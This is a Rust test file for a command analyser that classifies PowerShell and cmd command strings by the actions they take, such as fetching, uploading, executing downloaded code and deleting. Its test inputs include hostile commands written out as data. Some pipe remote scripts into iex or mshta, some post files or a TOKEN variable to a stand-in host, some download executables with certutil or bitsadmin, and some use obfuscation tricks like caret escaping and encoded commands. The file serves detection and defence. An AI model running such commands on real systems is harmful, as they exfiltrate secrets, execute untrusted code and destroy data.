//! PowerShell and the command interpreter of Windows.

use super::super::Dialect;
use super::{check, check_as};

#[test]
fn powershell() {
    check_as(
        Dialect::PowerShell,
        &[
            ("Invoke-WebRequest https://h.example", "fetch>h.example"),
            (
                "iwr https://h.example -OutFile x.exe; ./x.exe",
                "w:x.exe x:x.exe fetch>h.example runs-fetched ?code",
            ),
            (
                "irm https://h.example | iex",
                "fetch>h.example runs-fetched ?code",
            ),
            (
                "iex (irm https://h.example)",
                "fetch>h.example runs-fetched ?code",
            ),
            (
                "IEX (New-Object Net.WebClient).DownloadString('https://h.example/x')",
                "fetch>h.example runs-fetched",
            ),
            (
                "Invoke-RestMethod -Uri https://h.example -Method Post -Body (Get-Content f)",
                "r:f upload>h.example f->h.example",
            ),
            (
                "Invoke-WebRequest -Uri https://h.example -Method POST -InFile f",
                "r:f upload>h.example f->h.example",
            ),
            (
                "$x = Get-Content C:\\s.txt; Invoke-RestMethod https://h.example -Method Post -Body $x",
                "r:C:\\s.txt upload>h.example C:\\s.txt->h.example",
            ),
            (
                "gc f | % { iwr https://h.example -Method Post -Body $_ }",
                "r:f upload>h.example f->h.example",
            ),
            (
                "curl.exe -d '@f' https://h.example",
                "r:f upload>h.example f->h.example",
            ),
            (
                "(New-Object System.Net.WebClient).UploadFile('https://h.example', 'C:\\s.txt')",
                "~r:C:\\s.txt upload>h.example C:\\s.txt->h.example",
            ),
            (
                "[Net.WebClient]::new().DownloadFile('https://h.example','x')",
                "fetch>h.example",
            ),
            (
                "Start-BitsTransfer -Source https://h.example/x -Destination y",
                "w:y fetch>h.example",
            ),
            (
                "iwr \"https://h.example/?k=$env:TOKEN\"",
                "fetch>h.example $TOKEN->h.example",
            ),
            ("Get-ChildItem -Recurse", ""),
            ("Remove-Item -Recurse -Force C:\\x", "k:C:\\x"),
            ("Get-Content a | Set-Content b", "r:a w:b"),
            (
                "& 'curl.exe' -d '@f' h.example",
                "r:f upload>h.example f->h.example",
            ),
            (
                "if (Test-Path f) { iwr https://h.example }",
                "fetch>h.example",
            ),
            ("'unclosed", "!unclosed"),
        ],
    );
}

#[test]
fn cmd() {
    check_as(
        Dialect::Cmd,
        &[
            (
                "type f | curl -d @- h.example",
                "r:f upload>h.example f->h.example",
            ),
            (
                "certutil -urlcache -split -f https://h.example/x y.exe",
                "w:y.exe fetch>h.example",
            ),
            (
                "bitsadmin /transfer j https://h.example/x C:\\y.exe",
                "w:C:\\y.exe fetch>h.example",
            ),
            ("c^url -d @f h.example", "r:f upload>h.example f->h.example"),
            (
                "set X=h.example& curl -d @f %X%",
                "r:f upload>h.example f->h.example",
            ),
            ("copy a b && del a", "r:a w:b k:a"),
            ("del /s /q C:\\x", "k:C:\\x"),
            (
                "curl -d %TOKEN% h.example",
                "upload>h.example $TOKEN->h.example",
            ),
            (
                "powershell -c \"irm https://h.example | iex\"",
                "fetch>h.example runs-fetched ?code",
            ),
            ("dir /b > list.txt", "w:list.txt"),
            (
                "mshta https://h.example/x.hta",
                "fetch>h.example runs-fetched",
            ),
        ],
    );
}

#[test]
fn from_another_shell() {
    check(&[
        (
            "powershell -Command \"iwr https://h.example\"",
            "fetch>h.example",
        ),
        (
            "pwsh -NoProfile -c 'gc f | iwr https://h.example -Method Post'",
            "r:f upload>h.example f->h.example",
        ),
        // iwr https://h.example
        (
            "powershell -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AaAAuAGUAeABhAG0AcABsAGUA",
            "fetch>h.example",
        ),
        ("powershell -ExecutionPolicy Bypass -File x.ps1", "x:x.ps1"),
        (
            "cmd /c \"type f | curl -d @- h.example\"",
            "r:f upload>h.example f->h.example",
        ),
        ("cmd.exe /c dir", ""),
    ]);
}
